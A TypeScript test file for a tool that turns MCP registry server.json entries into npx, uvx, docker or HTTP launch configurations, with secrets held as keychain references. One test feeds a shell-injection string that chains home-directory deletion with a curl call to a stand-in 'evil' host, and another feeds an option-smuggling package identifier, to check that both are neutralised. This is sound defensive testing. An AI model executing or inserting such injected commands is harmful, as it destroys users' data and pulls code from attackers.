// The server.json → entry translator (issue 14 item 5): recorded real entries, the published
// schema, argument building without a shell, inputs (secrets, defaults, choices, formats) and
// the registry base URL carried into the package manager's environment.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { planOptions, type OptionPlan } from '../../electron/host/registry/install-options.js';
import { resolvePlan } from '../../electron/host/registry/resolve-install.js';
import type { ServerJson } from '../../electron/host/registry/server-json.js';
import { checkServerJson } from '../../electron/host/registry/server-schema.js';
import { recorded } from '../helpers/registry-fixtures.js';

function valid(doc: unknown): ServerJson {
  const check = checkServerJson(doc);
  assert.ok(check.ok, check.ok ? '' : check.problems.join('\n'));
  return check.value;
}

function option(doc: ServerJson, id: string, bundles = false): OptionPlan {
  const plan = planOptions(doc, bundles).find((p) => p.view.id === id);
  assert.ok(plan, `no option ${id}`);
  return plan;
}

const minimal = (extra: Record<string, unknown>): Record<string, unknown> => ({
  name: 'io.github.example/tool',
  description: 'A tool',
  version: '1.0.0',
  ...extra,
});

describe('the published schema', () => {
  it('accepts the recorded entries and says what is wrong with a bad one, field by field', async () => {
    valid(await recorded('context7.server.json'));
    valid(await recorded('remote-weather.server.json'));
    const bad = checkServerJson({
      name: 'no-slash',
      description: 'x'.repeat(101),
      version: '1.0.0',
      packages: [{ registryType: 'npm', identifier: 'x', version: 'latest', transport: { type: 'stdio' } }],
    });
    assert.ok(!bad.ok);
    const text = bad.problems.join('\n');
    assert.match(text, /^name: does not have the expected form/m);
    assert.match(text, /^description: must be at most 100 characters/m);
    assert.match(text, /^packages\[0\]\.version: has a value that is not allowed/m);
    assert.deepEqual(checkServerJson([]).ok, false);
  });
});

describe('npm, pypi and oci packages', () => {
  it('Context7 (npm): npx -y name@version, the secret env variable as a keychain reference', async () => {
    const doc = valid(await recorded('context7.server.json'));
    const plan = option(doc, 'package-0');
    assert.equal(plan.view.available, true);
    assert.deepEqual(
      plan.view.inputs.map((i) => [i.id, i.secret, i.required]),
      [['env.CONTEXT7_API_KEY', true, false]],
    );
    const empty = resolvePlan(plan, {}, 'context7');
    assert.deepEqual(empty.config, { command: 'npx', args: ['-y', '@upstash/context7-mcp@1.0.26'] });
    const filled = resolvePlan(plan, { 'env.CONTEXT7_API_KEY': 'ctx7-secret-value' }, 'context7');
    assert.deepEqual(filled.config, {
      command: 'npx',
      args: ['-y', '@upstash/context7-mcp@1.0.26'],
      env: { CONTEXT7_API_KEY: '${secret:context7.CONTEXT7_API_KEY}' },
    });
    assert.deepEqual(filled.secrets, [{ name: 'context7.CONTEXT7_API_KEY', value: 'ctx7-secret-value' }]);
    assert.ok(!JSON.stringify(filled.view).includes('ctx7-secret-value'), 'the view never carries the value');
  });

  it('a registry other than npmjs.org becomes npm_config_registry (pypi: UV_INDEX_URL)', () => {
    const doc = valid(
      minimal({
        packages: [
          {
            registryType: 'npm',
            identifier: 'pkg',
            version: '2.0.0',
            registryBaseUrl: 'http://127.0.0.1:9/',
            transport: { type: 'stdio' },
          },
          {
            registryType: 'pypi',
            identifier: 'mcp-time',
            version: '0.6.2',
            registryBaseUrl: 'https://pypi.example.com',
            transport: { type: 'stdio' },
          },
          {
            registryType: 'npm',
            identifier: 'pkg',
            version: '2.0.0',
            registryBaseUrl: 'https://registry.npmjs.org',
            transport: { type: 'stdio' },
          },
        ],
      }),
    );
    assert.deepEqual(resolvePlan(option(doc, 'package-0'), {}, 'a').config, {
      command: 'npx',
      args: ['-y', 'pkg@2.0.0'],
      env: { npm_config_registry: 'http://127.0.0.1:9/' },
    });
    assert.deepEqual(resolvePlan(option(doc, 'package-1'), {}, 'a').config, {
      command: 'uvx',
      args: ['mcp-time==0.6.2'],
      env: { UV_INDEX_URL: 'https://pypi.example.com/simple' },
    });
    assert.deepEqual(resolvePlan(option(doc, 'package-2'), {}, 'a').config, {
      command: 'npx',
      args: ['-y', 'pkg@2.0.0'],
    });
  });

  it('the GitHub server (oci with its own `run` line): the image gets its tag, the token a reference', async () => {
    // Recorded from the repository, where the version is a ${VERSION} placeholder filled at release.
    const text = JSON.stringify(await recorded('github-mcp-server.server.json')).replaceAll(
      '${VERSION}',
      '0.20.1',
    );
    const doc = valid(JSON.parse(text));
    const plan = option(doc, 'package-0');
    assert.deepEqual(
      plan.view.inputs.map((i) => [i.id, i.secret, i.required]),
      [['runtimeArg.3.token', true, true]],
    );
    const missing = resolvePlan(plan, {}, 'github');
    assert.deepEqual(missing.view.missing, ['token']);
    assert.equal(missing.config, undefined);
    const ok = resolvePlan(plan, { 'runtimeArg.3.token': 'ghp_abcdefabcdefabcdef' }, 'github');
    assert.deepEqual(ok.config, {
      command: 'docker',
      args: [
        'run',
        '-i',
        '--rm',
        '-e',
        'GITHUB_PERSONAL_ACCESS_TOKEN=${secret:github.token}',
        'ghcr.io/github/github-mcp-server:0.20.1',
      ],
    });
  });

  it('oci without a run line: docker run -i --rm, env passed by name only', () => {
    const doc = valid(
      minimal({
        packages: [
          {
            registryType: 'oci',
            identifier: 'docker.io/acme/tool',
            version: '3.1',
            transport: { type: 'stdio' },
            environmentVariables: [{ name: 'MODE', default: 'fast' }],
          },
        ],
      }),
    );
    assert.deepEqual(resolvePlan(option(doc, 'package-0'), {}, 'tool').config, {
      command: 'docker',
      args: ['run', '-e', 'MODE', '-i', '--rm', 'docker.io/acme/tool:3.1'],
      env: { MODE: 'fast' },
    });
  });

  it('runtime arguments go before the package, package arguments after; hostile values stay one argument', () => {
    const doc = valid(
      minimal({
        packages: [
          {
            registryType: 'npm',
            identifier: '@scope/server',
            version: '1.2.3',
            runtimeHint: 'npx',
            transport: { type: 'stdio' },
            runtimeArguments: [{ type: 'named', name: '--node-options', value: '--max-old-space-size=512' }],
            packageArguments: [
              { type: 'positional', valueHint: 'root', isRequired: true },
              { type: 'named', name: '--mode', choices: ['fast', 'safe'], default: 'safe' },
              { type: 'named', name: '--verbose', format: 'boolean' },
              { type: 'named', name: '--stdio' },
              { type: 'positional', valueHint: 'extra', isRepeated: true },
              { type: 'named', name: '--port', format: 'number' },
            ],
          },
        ],
      }),
    );
    const plan = option(doc, 'package-0');
    const hostile = '; rm -rf ~ && $(curl evil) `id` | cat';
    const r = resolvePlan(plan, { 'arg.0': hostile, 'arg.2': 'true', 'arg.4': 'a b\nc' }, 'srv');
    assert.deepEqual(r.config, {
      command: 'npx',
      args: [
        '-y',
        '--node-options',
        '--max-old-space-size=512',
        '@scope/server@1.2.3',
        hostile,
        '--mode',
        'safe',
        '--verbose',
        '--stdio',
        'a b',
        'c',
      ],
    });
    const wrong = resolvePlan(plan, { 'arg.0': '/x', 'arg.1': 'turbo', 'arg.5': 'eighty' }, 'srv');
    assert.deepEqual(wrong.view.problems, ['--mode must be one of fast, safe', '--port must be a number']);
    assert.equal(wrong.config, undefined);
    assert.deepEqual(resolvePlan(plan, {}, 'srv').view.missing, ['root']);
  });

  it('says what it cannot run, and refuses identifiers that would read as options', () => {
    const doc = valid(
      minimal({
        packages: [
          { registryType: 'nuget', identifier: 'Acme.Tool', version: '1.0.0', transport: { type: 'stdio' } },
          {
            registryType: 'npm',
            identifier: '--registry=http://evil',
            version: '1.0.0',
            transport: { type: 'stdio' },
          },
          {
            registryType: 'npm',
            identifier: 'ok',
            version: '1.0.0',
            transport: { type: 'streamable-http', url: 'http://localhost:{port}/mcp' },
          },
          {
            registryType: 'mcpb',
            identifier: 'https://example.com/x.mcpb',
            fileSha256: 'a'.repeat(64),
            transport: { type: 'stdio' },
          },
        ],
      }),
    );
    const views = planOptions(doc, false).map((p) => p.view);
    assert.deepEqual(
      views.map((v) => v.available),
      [false, false, false, false],
    );
    assert.match(views[0]?.reason ?? '', /cannot run nuget packages/);
    assert.match(views[1]?.reason ?? '', /is not an npm package name/);
    assert.match(views[2]?.reason ?? '', /local streamable-http server/);
    assert.equal(views[3]?.reason, 'bundle install not available here');
    assert.equal(planOptions(doc, true)[3]?.view.available, true);
  });
});

describe('remotes', () => {
  it('the registry example: URL variable with its default, a required secret header', async () => {
    const doc = valid(await recorded('remote-weather.server.json'));
    const plan = option(doc, 'remote-0');
    assert.deepEqual(
      plan.view.inputs.map((i) => [i.id, i.target, i.secret, i.required, i.default]),
      [
        ['url.host', 'url', false, false, 'api.example.com'],
        ['header.Authorization', 'header', true, true, undefined],
      ],
    );
    assert.deepEqual(resolvePlan(plan, {}, 'weather').view.missing, ['Authorization']);
    const r = resolvePlan(plan, { 'header.Authorization': 'Bearer s3cret-token' }, 'weather');
    assert.deepEqual(r.config, {
      type: 'http',
      url: 'https://api.example.com/mcp',
      headers: { Authorization: '${secret:weather.Authorization}' },
    });
    assert.deepEqual(r.secrets, [{ name: 'weather.Authorization', value: 'Bearer s3cret-token' }]);
  });

  it('a fixed header value with a secret variable; SSE stays SSE', () => {
    const doc = valid(
      minimal({
        remotes: [
          {
            type: 'sse',
            url: 'https://{tenant}.example.com/sse',
            variables: { tenant: { isRequired: true } },
            headers: [
              {
                name: 'Authorization',
                value: 'Bearer {token}',
                variables: { token: { isSecret: true, isRequired: true } },
              },
            ],
          },
        ],
      }),
    );
    const r = resolvePlan(
      option(doc, 'remote-0'),
      { 'url.tenant': 'acme', 'header.Authorization.token': 'tok' },
      'x',
    );
    assert.deepEqual(r.config, {
      type: 'sse',
      url: 'https://acme.example.com/sse',
      headers: { Authorization: 'Bearer ${secret:x.token}' },
    });
  });
});
